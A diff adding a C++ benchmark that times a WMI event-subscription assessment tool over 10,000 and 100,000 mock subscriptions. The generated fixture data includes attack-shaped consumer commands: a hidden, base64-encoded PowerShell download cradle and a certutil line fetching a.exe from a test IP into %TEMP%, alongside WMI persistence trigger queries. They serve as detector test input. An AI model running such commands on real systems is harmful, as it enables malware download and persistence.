@@ -1,0 +1,53 @@
+// Assessment throughput: collect -> graph -> assess over 10,000 and 100,000
+// generated subscriptions (a realistic mix of attack and benign shapes), to
+// show the per-subscription cost and that it scales linearly.
+// Run: build with -DWMISUB_BUILD_BENCH=ON, then bench/bench_assess.
+#include "wmisub/assess.hpp"
+#include "wmisub/collector.hpp"
+
+#include <benchmark/benchmark.h>
+
+#include <cstddef>
+#include <string>
+
+namespace {
+
+wmisub::snapshot generated(std::size_t n) {
+    const char* queries[] = {
+        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325",
+        "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'",
+        "SELECT * FROM __InstanceModificationEvent WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 15",
+        "SELECT * FROM __TimerEvent WHERE TimerID = 'T'",
+        "select * from MSFT_SCMEventLogEvent",
+    };
+    const char* commands[] = {
+        "powershell.exe -NonI -W hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        "C:\\Program Files\\Vendor\\agent.exe --report",
+        "cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe",
+        "C:\\Windows\\System32\\notepad.exe",
+    };
+    wmisub::mock_collector source;
+    for (std::size_t i = 0; i < n; ++i) {
+        const std::string id = std::to_string(i);
+        source.filter("F" + id, queries[i % 5]).command_line_consumer("C" + id, std::string(commands[i % 4]) + " " + id).bind("F" + id, "C" + id);
+    }
+    auto snap = source.collect({});
+    return std::move(*snap);
+}
+
+void assess_subscriptions(benchmark::State& state) {
+    const auto n = static_cast<std::size_t>(state.range(0));
+    const wmisub::snapshot snap = generated(n);
+    const wmisub::rule_catalog catalog = wmisub::rule_catalog::builtin();
+    for (auto _ : state) {
+        const wmisub::subscription_graph graph(snap);
+        auto results = wmisub::assess(graph, catalog);
+        benchmark::DoNotOptimize(results);
+    }
+    state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * n));
+}
+BENCHMARK(assess_subscriptions)->Arg(10000)->Arg(100000)->Unit(benchmark::kMillisecond)->Iterations(1);
+
+}  // namespace
+
+BENCHMARK_MAIN();
